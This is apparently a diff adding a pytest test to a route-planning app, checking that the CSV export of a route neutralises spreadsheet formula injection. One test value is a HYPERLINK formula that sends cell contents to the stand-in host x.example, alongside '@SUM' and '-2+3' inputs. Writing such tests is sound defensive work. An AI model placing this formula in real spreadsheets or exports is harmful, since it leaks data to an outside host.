@@ -138,3 +138,34 @@ def test_bad_plan_request_names_the_field(client: TestClient) -> None:
     assert response.status_code == 422
     fields = {e["field"] for e in response.json()["errors"]}
     assert {"date", "time_limit_s"} <= fields
+
+
+def test_route_csv_neutralises_formula_cells(client: TestClient) -> None:
+    """An address a spreadsheet would run as a formula reaches the route CSV as text."""
+    import csv
+    import io
+
+    org = make_org(client, "Formula Co")
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    orders = (
+        "id,address,lon,lat,parcels\n"
+        f'F1,"{evil.replace(chr(34), chr(34) * 2)}",9.5209,47.1410,1\n'
+        "F2,@SUM(1+1),9.5300,47.1500,1\n"
+        "F3,-2+3,9.5100,47.1300,1\n"
+    )
+    _seed(client, org, orders)
+    created = client.post(
+        "/api/v1/plans", json={"date": DAY, "time_limit_s": 0.5}, headers=org.dispatcher
+    ).json()
+    plan = _wait(client, org, created["id"])
+    assert plan["status"] == "done", plan
+    route = next(r for r in plan["document"]["routes"] if r["stops"])
+    answer = client.get(
+        f"/app/plans/{plan['id']}/export/{route['vehicle_id']}.csv", headers=org.dispatcher
+    )
+    assert answer.status_code == 200, answer.text
+    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(answer.text))}
+    addresses = {"F1": "'" + evil, "F2": "'@SUM(1+1)", "F3": "'-2+3"}
+    assert {k: rows[k]["address"] for k in rows} == {k: addresses[k] for k in rows}
+    assert all(not cell.startswith(("=", "+", "@")) for r in rows.values() for cell in r.values())
+    assert float(rows[next(iter(rows))]["lon"]) > 9  # numbers stay numbers
